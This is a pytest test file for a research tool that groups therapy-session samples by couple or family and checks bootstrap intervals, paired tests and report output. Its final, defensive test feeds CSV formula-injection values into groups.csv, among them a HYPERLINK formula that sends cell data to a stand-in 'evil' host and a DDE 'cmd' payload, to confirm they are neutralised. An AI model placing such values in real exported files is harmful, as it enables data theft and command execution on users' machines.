"""Session groups: couples by folder, families by shared cast (issue 24, item 1), a user's --groups CSV,
and their use in the report's bootstrap, paired tests and `rescue stats`."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from data_helpers import run_cli
from typer.testing import CliRunner

from rescue.cli import app
from rescue.data.groups import GroupsError, SessionGroups, check_groups, folder_of, infer_groups, read_groups
from rescue.data.models import Row, Sample
from rescue.report.bootstrap import bootstrap_ci, count_clusters, paired_bootstrap
from rescue.report.significance import mcnemar_records
from rescue.tasks.base import PredictionRecord

REAL_FAMILIES = {
    "family_therapy:Joel+Josh+Laura+Maria+Nick": ["003", "004", "005", "006", "010"],
    "family_therapy:Helen+Jess+Pat+Susie": ["007"],
    "family_therapy:Aaron+Father+Robbie": ["012"],
    "family_therapy:Ben+Don+Heather": ["013"],
    "family_therapy:Bill+Jane+Joe": ["014", "015", "016"],
    "family_therapy:Earl+Father+Rosa": ["019"],
    "family_therapy:George+Sonia": ["020"],
    "family_therapy:Anna+Charles+Tracy": ["022", "023", "024", "025"],
}


def _sample(sample_id: str, participants: list[str], scenario: str = "family", speakers: tuple[str, ...] = ()) -> Sample:
    rows = [Row(row_index=i, start_time=i, end_time=i + 1, primary_speaker=s) for i, s in enumerate(speakers, 1)]
    return Sample(sample_id=sample_id, scenario=scenario, participants=participants, rows=rows or [
        Row(row_index=1, start_time=0, end_time=1, primary_speaker="Therapist")])


def test_real_samples_make_eight_families_and_three_couples(real_samples):
    groups = infer_groups(real_samples).members()
    assert {g: [i.split("/")[1] for i in ids] for g, ids in groups["family"].items()} == REAL_FAMILIES
    assert sorted(groups["couple"]) == ["alan_and_evelyn", "alexes_and_casimar", "gianni_and_matthew"]
    assert sum(len(ids) for ids in groups["family"].values()) == 17


def test_casts_merge_transitively_and_one_shared_name_is_not_a_family():
    samples = [
        _sample("f/1/merged", ["Maria", "Joel", "Laura"]),
        _sample("f/2/merged", ["Nick", "Joel", "Maria"]),  # shares Maria and Joel with 1
        _sample("f/3/merged", ["Maria", "Nick", "Josh"]),  # shares Maria and Nick with 2 only
        _sample("f/4/merged", ["Father", "Aaron"]),
        _sample("f/5/merged", ["Father", "Rosa", "Earl"]),  # only "Father" in common with 4
        _sample("f/6/merged", [], speakers=("Therapist", "Ana", "Family", "Ben")),  # no participants: speakers
        _sample("f/7/merged", ["Ben", "Ana"]),
        _sample("f/8/merged", ["Solo"]),  # fewer than two people: its own group
        _sample("c/x/001", ["A", "B"], scenario="couple"),
        _sample("c/x/002", ["C", "D"], scenario="couple"),  # couples: the folder, whatever the cast
    ]
    of = infer_groups(samples).of
    assert of["f/1/merged"] == of["f/2/merged"] == of["f/3/merged"] == "f:Joel+Josh+Laura+Maria+Nick"
    assert of["f/4/merged"] != of["f/5/merged"]
    assert of["f/6/merged"] == of["f/7/merged"] == "f:Ana+Ben"
    assert of["f/8/merged"] == "f/8/merged"
    assert of["c/x/001"] == of["c/x/002"] == "c/x" == folder_of("c/x/001")


def test_groups_csv_is_read_with_file_and_line_in_every_error(tmp_path):
    good = tmp_path / "groups.csv"
    good.write_text("sample_id,group\n# a comment\na/1,fam\n\na/2,fam\n", encoding="utf-8")
    assert read_groups(good).of == {"a/1": "fam", "a/2": "fam"}
    headerless = tmp_path / "plain.csv"
    headerless.write_text("a/1,x\n", encoding="utf-8")
    assert read_groups(headerless).of == {"a/1": "x"}
    bad = tmp_path / "bad.csv"
    bad.write_text("sample_id,group\na/1,fam\na/1,other\n,fam\na/3,\na/4\n", encoding="utf-8")
    with pytest.raises(GroupsError) as caught:
        read_groups(bad)
    text = str(caught.value)
    assert f"{bad}:3: sample_id: 'a/1' is already in a group on line 2" in text
    assert f"{bad}:4: sample_id: empty" in text and f"{bad}:5: group: empty" in text
    assert f"{bad}:6: expected 2 fields sample_id,group, found 1" in text
    with pytest.raises(GroupsError, match="not found"):
        read_groups(tmp_path / "absent.csv")
    empty = tmp_path / "empty.csv"
    empty.write_text("sample_id,group\n", encoding="utf-8")
    with pytest.raises(GroupsError, match="no sample_id,group lines"):
        read_groups(empty)


def test_a_given_grouping_must_cover_every_sample_and_keep_to_one_scenario():
    given = SessionGroups({"a/1": "g", "b/1": "g"}, "given: x.csv")
    with pytest.raises(GroupsError, match=r"x.csv: 1 sample\(s\) have no group: c/1"):
        check_groups(given, {"a/1": "couple", "c/1": "couple"}, "x.csv")
    with pytest.raises(GroupsError, match="group 'g' holds samples of several scenarios"):
        check_groups(given, {"a/1": "couple", "b/1": "family"}, "x.csv")


def _record(sample: str, right: bool, row: int, model: str = "m") -> PredictionRecord:
    return PredictionRecord(model=model, task="rpp", instance_id=f"{sample}#row{row}", sample_id=sample,
                            scenario="family", row_index=row, gold="a", prediction=["a" if right else "b"], status="ok")


def _accuracy(records: list[PredictionRecord]) -> dict[str, float]:
    return {"acc": sum(r.prediction[0] == r.gold for r in records) / len(records)}


def test_the_bootstrap_and_the_paired_tests_resample_families_not_folders():
    # Eight folders, two families: each family's clips are all right (A) or all wrong.
    clips = {f"f/{k}/merged": "one" if k < 4 else "two" for k in range(8)}
    groups = SessionGroups(clips, "given")
    a = [_record(s, g == "one", row) for s, g in clips.items() for row in range(4)]
    b = [_record(s, True, row, model="b") for s in clips for row in range(4)]
    assert count_clusters(a, "group") == 8  # by folder
    assert count_clusters(a, "group", groups) == 2 and count_clusters(a, "sample", groups) == 8
    by_family = bootstrap_ci(a, _accuracy, ["acc"], n_resamples=400, seed=0, groups=groups)["acc"]
    by_folder = bootstrap_ci(a, _accuracy, ["acc"], n_resamples=400, seed=0)["acc"]
    assert (by_family.high - by_family.low) > (by_folder.high - by_folder.low)
    paired = paired_bootstrap(a, b, _accuracy, ["acc"], n_resamples=400, seed=0, groups=groups)["acc"]
    assert paired.p_value is not None and paired.p_value > 0.05  # two families: no evidence
    assert mcnemar_records(a, b, groups=groups).p_cluster == mcnemar_records(
        a, b, cluster="group", groups=SessionGroups({s: "x" + g for s, g in clips.items()}, "given")).p_cluster


def test_stats_shows_the_groups(capsys, monkeypatch, real_data_path):
    code, out, _ = run_cli(["stats", "--data", str(real_data_path), "--format", "json"], capsys, monkeypatch)
    assert code == 0
    groups = json.loads(out)["groups"]
    assert {g: [i.split("/")[1] for i in ids] for g, ids in groups["family"].items()} == REAL_FAMILIES
    code, out, _ = run_cli(["stats", "--data", str(real_data_path)], capsys, monkeypatch)
    assert code == 0 and "Session groups" in out and "family_therapy:Joel+Josh+Laura+Maria+Nick" in out


FAST = ("--tasks", "itp,rpp", "--no-bertscore", "--quiet")


def _run(out: Path, model: str, data: Path) -> Path:
    result = CliRunner().invoke(app, ["run", "--out", str(out), "--model", model, "--data", str(data), *FAST])
    assert result.exit_code == 0, result.output
    return out


def _widths(path: Path) -> dict[tuple[str, str, str], float]:
    with path.open(encoding="utf-8") as handle:
        return {(r["system"], r["scope"], r["metric"]): float(r["ci_high"]) - float(r["ci_low"])
                for r in csv.DictReader(handle) if r["ci_low"]}


@pytest.mark.slow
def test_report_resamples_real_families_and_records_the_grouping(real_data_path, tmp_path):
    runs = [_run(tmp_path / "maj", "baseline/majority", real_data_path),
            _run(tmp_path / "uni", "baseline/uniform", real_data_path)]

    def report(out: Path, *extra: str):
        return CliRunner().invoke(app, ["report", *map(str, runs), "--out", str(out), "--bootstrap", "200",
                                        "--quiet", "--no-html", "--no-figures", *extra])

    inferred = report(tmp_path / "inferred")
    assert inferred.exit_code == 0, inferred.output
    recorded = json.loads((tmp_path / "inferred" / "groups.json").read_text(encoding="utf-8"))
    assert recorded["method"].startswith("inferred") and len(recorded["groups"]["family"]) == 8
    legend = (tmp_path / "inferred" / "leaderboard.md").read_text(encoding="utf-8")
    assert "Session groups here: 3 couple, 8 family" in legend and "share at least 2 people" in legend
    # The written grouping reads back as --groups and gives the same numbers.
    again = report(tmp_path / "again", "--groups", str(tmp_path / "inferred" / "groups.csv"))
    assert again.exit_code == 0, again.output
    assert _widths(tmp_path / "again" / "leaderboard.csv") == _widths(tmp_path / "inferred" / "leaderboard.csv")
    # One folder per family clip (the old grouping) gives other family intervals, the same couple ones.
    folders = tmp_path / "folders.csv"
    folders.write_text("".join(f"{s},{folder_of(s)}\n" for s in recorded["groups"]["couple"] for s in
                               recorded["groups"]["couple"][s])
                       + "".join(f"{s},{folder_of(s)}\n" for ids in recorded["groups"]["family"].values()
                                 for s in ids), encoding="utf-8")
    old = report(tmp_path / "old", "--groups", str(folders))
    assert old.exit_code == 0, old.output
    new, before = _widths(tmp_path / "inferred" / "leaderboard.csv"), _widths(tmp_path / "old" / "leaderboard.csv")
    assert any(new[k] != before[k] for k in new if k[1] == "family")
    assert all(new[k] == before[k] for k in new if k[1] == "couple")
    by_sample = report(tmp_path / "sample", "--cluster", "sample")
    assert by_sample.exit_code == 0 and "samples (clips)" in (tmp_path / "sample" / "leaderboard.md").read_text()


def test_report_refuses_a_bad_groups_file_with_exit_2(tmp_path):
    from rescue.runs.folder import read_results  # noqa: F401  (the run below writes one)

    run = tmp_path / "run"
    result = CliRunner().invoke(app, ["run", "--out", str(run), "--model", "baseline/majority", "--tasks", "itp",
                                      "--no-bertscore", "--quiet"])
    assert result.exit_code == 0, result.output
    bad = tmp_path / "g.csv"
    bad.write_text("sample_id,group\ndemo_couple_riley_and_sam/001_session,\n", encoding="utf-8")
    code, out, err = _main(["report", str(run), "--out", str(tmp_path / "r"), "--groups", str(bad), "--quiet"])
    assert code == 2 and f"{bad}:2: group: empty" in out + err and not (tmp_path / "r").exists()
    partial = tmp_path / "partial.csv"
    partial.write_text("demo_couple_riley_and_sam/001_session,x\n", encoding="utf-8")
    code, out, err = _main(["report", str(run), "--out", str(tmp_path / "r"), "--groups", str(partial), "--quiet"])
    assert code == 2 and "sample(s) have no group" in out + err


def _main(args: list[str]) -> tuple[int, str, str]:
    from _cli import invoke_main

    result = invoke_main(args)
    return result.exit_code, result.stdout, result.stderr


# A report's groups.csv (issue #42 item 7): ids and groups from data are never a spreadsheet formula, and every one
# reads back as it was, a line break or U+2028 inside included.
FORMULA_IDS = ['=HYPERLINK("http://evil/?"&A1)/s1', "+1+1/s2", "-2/s3", "@SUM(A1:A9)/s4", "\tx/s5", "\rx/s6",
               "'quoted/s7", "''twice/s8", "a\r\nb/s9", "line\u2028sep/s10", "plain/s11", "=/s12"]


def test_groups_csv_holds_no_formula_and_reads_back_every_id(tmp_path):
    from rescue.data.groups import groups_csv

    of = {sample_id: ("=cmd|' /C calc'!A0" if n % 3 == 0 else f"@g{n % 2}") for n, sample_id in enumerate(FORMULA_IDS)}
    grouping = SessionGroups(of, "given", dict.fromkeys(FORMULA_IDS, "couple"))
    text = groups_csv(grouping)
    cells = [cell for row in list(csv.reader(text.splitlines(keepends=True)))[1:] for cell in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    path = tmp_path / "groups.csv"
    path.write_text(text, encoding="utf-8", newline="")
    assert read_groups(path).of == of
